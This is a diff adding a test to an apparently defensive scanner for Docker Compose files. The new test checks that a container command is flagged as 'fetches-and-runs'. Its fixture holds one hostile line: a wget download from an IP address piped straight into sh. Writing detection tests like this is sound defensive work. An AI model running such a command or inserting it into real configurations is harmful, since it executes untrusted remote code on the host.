@@ -175,6 +175,10 @@ describe('compose files', () => {
         ['container', false, 'mines', 'restarts-for-ever'],
       ]);
   });
+  it('knows what a shell is given in one text', () => {
+    const command = `    image: alpine\n    command: sh -c "wget -qO- http://198.51.100.7/x.sh | sh"\n`;
+    expect(outline(compose, file(command))).toEqual([['container', false, 'fetches-and-runs']]);
+  });
   it('says nothing of ordinary ones', () => {
     expect(
       outline(
